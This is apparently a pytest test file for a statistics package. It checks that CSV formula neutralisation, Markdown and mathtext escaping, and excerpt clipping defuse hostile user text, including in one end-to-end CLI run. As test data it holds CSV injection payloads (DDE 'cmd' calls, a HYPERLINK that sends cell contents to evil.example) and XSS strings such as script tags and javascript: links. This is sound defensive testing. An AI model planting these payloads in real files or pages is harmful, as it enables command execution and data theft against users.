"""User text on its way out: CSV formula neutralisation, Markdown and mathtext escaping,
clipped excerpts -- unit tests and one hostile study run end to end through the CLI.

The Markdown checks parse the report with markdown-it (a CommonMark implementation,
independent of the package) and look at its tokens; the mathtext checks ask matplotlib's own
text layer whether it would parse a string as maths.
"""

from __future__ import annotations

import csv
import doctest
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import ahpstat._text as text_mod
from _base_study import copy_base_study
from ahpstat._text import (
    clip_excerpt,
    escape_markdown,
    escape_mathtext,
    neutralize_formula,
    neutralize_frame,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_doctests():
    assert doctest.testmod(text_mod, optionflags=doctest.ELLIPSIS).failed == 0


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_prefixed(value):
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["E01", "A = B", "", "'=already", " =1+1", "-3", "+0.5",
                                   "-1e-3", "1/3", 3, -3.5, None])
def test_non_formulas_unchanged(value):
    assert neutralize_formula(value) == value


def test_neutralize_frame_text_columns_only_and_copy():
    df = pd.DataFrame({"expert": ["=1+1", "E2"], "node": pd.Categorical(["@A", "B"]),
                       "value": [-3.0, 2.0], "s": pd.array(["+x", None], dtype="string"),
                       "=col": [1, 2]})
    out = neutralize_frame(df)
    assert out.expert.tolist() == ["'=1+1", "E2"]
    assert out.node.tolist() == ["'@A", "B"]
    assert out.value.tolist() == [-3.0, 2.0]
    assert out.s.iloc[0] == "'+x" and pd.isna(out.s.iloc[1])
    assert list(out.columns)[-1] == "'=col"
    assert df.expert.tolist() == ["=1+1", "E2"] and "=col" in df.columns  # input untouched


# --------------------------------------------------------------------------- Markdown

markdown_it = pytest.importorskip("markdown_it")


def _tokens(md: str):
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    out = []

    def walk(tokens):
        for t in tokens:
            out.append(t)
            if t.children:
                walk(t.children)

    walk(parser.parse(md))
    return out


def _plain(md: str) -> str:
    """The text a renderer shows for one inline Markdown fragment."""
    return "".join(t.content for t in _tokens(md) if t.type in ("text", "code_inline"))


MD_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/t.png)",
    "<javascript:alert(1)>",
    "Title\n\n# injected heading",
    "a\r\n---\nb",
    "> quoted",
    "1. list",
    "- item",
    "| a | b |",
    "**bold** _em_ ~~gone~~ `code`",
    "&lt;script&gt; &#x6A;",
    "cost $5 and $6 $\\badcmd{x}$",
    "back\\slash\\<b>",
    "[ref]: http://evil.example",
    "    indented",
    "===",
]


@pytest.mark.parametrize("s", MD_ATTACKS)
def test_escape_markdown_renders_literally(s):
    md = "# " + escape_markdown(s)
    toks = _tokens(md)
    kinds = {t.type for t in toks}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "s_open",
                        "em_open", "strong_open", "code_inline", "bullet_list_open",
                        "ordered_list_open", "blockquote_open", "hr", "table_open"}
    assert sum(t.type == "heading_open" for t in toks) == 1
    expect = " ".join(s.replace("\r\n", " ").replace("\n", " ").replace("\r", " ").split())
    assert " ".join(_plain(md).split()) == expect


@pytest.mark.parametrize("s", MD_ATTACKS)
def test_escape_markdown_keep_emphasis_blocks_html_links_blocks(s):
    md = "Goal " + escape_markdown(s, keep_emphasis=True) + " end **ours** `scores.csv`"
    toks = _tokens(md)
    kinds = {t.type for t in toks}
    assert not kinds & {"html_inline", "html_block", "link_open", "image", "heading_open",
                        "bullet_list_open", "ordered_list_open", "blockquote_open", "hr",
                        "table_open"}
    assert sum(t.type == "paragraph_open" for t in toks) == 1
    # a user text at the very start of a paragraph cannot open a block either
    toks = _tokens(escape_markdown(s, keep_emphasis=True))
    assert not {t.type for t in toks} & {"heading_open", "bullet_list_open",
                                         "ordered_list_open", "blockquote_open", "hr",
                                         "html_block", "html_inline", "link_open", "image"}


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)),
               max_size=40))
def test_escape_markdown_fuzz_literal(s):
    md = "# " + escape_markdown(s)
    toks = _tokens(md)
    assert sum(t.type == "heading_open" for t in toks) == 1
    assert not {t.type for t in toks} & {"html_inline", "link_open", "image"}


# --------------------------------------------------------------------------- mathtext


@pytest.mark.parametrize("s", ["$\\badcmd{x}$", "cost $5 and $6", "a\\$b$", "$$", "$x^2$",
                               "plain"])
def test_escape_mathtext_is_literal_for_matplotlib(s):
    import matplotlib

    matplotlib.use("Agg", force=True)
    from matplotlib.text import Text

    t = Text(0, 0, escape_mathtext(s))
    shown, ismath = t._preprocess_math(t.get_text())
    assert ismath is False and shown == s


# --------------------------------------------------------------------------- excerpts


def test_clip_excerpt():
    line = "root:$6$" + "x" * 200 + ":19000:0:99999:7:::"
    out = clip_excerpt(line)
    assert len(out) == 40 and out.endswith("…") and line.startswith(out[:-1])
    assert clip_excerpt("short") == "short"
    assert clip_excerpt("a\nb\x00c", 80) == "a\\nb\\x00c"
    assert len(clip_excerpt("y" * 100, 10)) == 10


# --------------------------------------------------------------------------- end to end


def _hostile_study(folder: Path) -> Path:
    """The example study with formula, HTML, Markdown and mathtext payloads in every kind of
    user text: node ids, labels, expert ids, site names, the grouping column, the title."""
    study = copy_base_study(folder)
    sites = ['=HYPERLINK("http://evil.example","x")', "$\\badcmd{x}$"]
    rename = {"A": "@A", "a1": "+a1", "b2": "$b2$"}
    h = (folder / "hierarchy.yaml").read_text()
    h = h.replace("id: A,", "id: '@A',").replace("id: a1,", "id: '+a1',").replace(
        "id: b2,", "id: '$b2$',")
    h = h.replace("label: criterion A", "label: '<script>alert(1)</script>'").replace(
        "label: item b1", "label: '[x](javascript:alert(1)) cost $5 and $6'")
    h = h.replace("label: goal", "label: 'goal <img src=x onerror=alert(1)>'")
    (folder / "hierarchy.yaml").write_text(h)
    lines = (folder / "judgments.csv").read_text().splitlines()
    out = [lines[0]]
    for ln in lines[1:]:
        e, node, r, c, v = ln.split(",")
        e = {"E1": "-2+3+cmd|' /C calc'!A0", "E2": "<b>E2</b>"}.get(e, e)
        out.append(",".join(f'"{x}"' if "," in x else x for x in
                            (e, rename.get(node, node), rename.get(r, r), rename.get(c, c), v)))
    (folder / "judgments.csv").write_text("\n".join(out) + "\n")
    sv = list(csv.reader((folder / "survey.csv").read_text().splitlines()))
    sv[0] = ["respondent", "=site", "+a1", "a2", "b1", "$b2$", "b3"]
    for row in sv[1:]:
        row[1] = sites[int(row[0][1:]) % 2]
    with open(folder / "survey.csv", "w", newline="") as fh:
        csv.writer(fh).writerows(sv)
    s = study.read_text().replace("group_columns: [site]", "group_columns: ['=site']")
    s += "title: \"Hostile\\n\\n# injected heading <script>x</script>\"\n"
    study.write_text(s)
    return study


def test_hostile_text_end_to_end(tmp_path):
    from ahpstat.cli import main

    study = _hostile_study(tmp_path / "s")
    out = tmp_path / "out"
    assert main(["run", str(study), "--out", str(out)]) == 0
    # every CSV: no cell a spreadsheet would run as a formula
    n_hits = 0
    for f in sorted(out.glob("*.csv")):
        with open(f, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(("=", "+", "@", "\t", "\r")) or (
                            cell.startswith("-") and not _is_number(cell)):
                        pytest.fail(f"{f.name}: formula cell {cell!r}")
                    n_hits += cell.startswith("'")
    assert n_hits > 10  # the payloads are there, neutralised
    w = pd.read_csv(out / "weights.csv")
    assert "'@A" in set(w.node) and "'+a1" in set(w.node)
    # report.md: one h1, no HTML, no link, no image but the package's own figures
    md = (out / "report.md").read_text(encoding="utf-8")
    toks = _tokens(md)
    kinds = {t.type for t in toks}
    assert sum(t.type == "heading_open" and t.tag == "h1" for t in toks) == 1
    assert not {"html_inline", "html_block", "link_open"} & kinds
    figures = {p.name for p in out.glob("*.png")}
    assert {t.attrs["src"] for t in toks if t.type == "image"} <= figures
    assert "Hostile  \\# injected heading" in md
    assert "<script>" not in (out / "report.html").read_text(encoding="utf-8")
    # the figures were drawn with the mathtext payloads in them
    assert (out / "scores_groups.png").is_file() and (out / "hierarchy.png").is_file()
    # the Python API keeps the raw values
    from ahpstat.study import Study

    res = Study.from_yaml(study).run()
    assert "@A" in set(res.weights.node) and '=HYPERLINK("http://evil.example","x")' in set(
        res.scores.group)


def _is_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return True
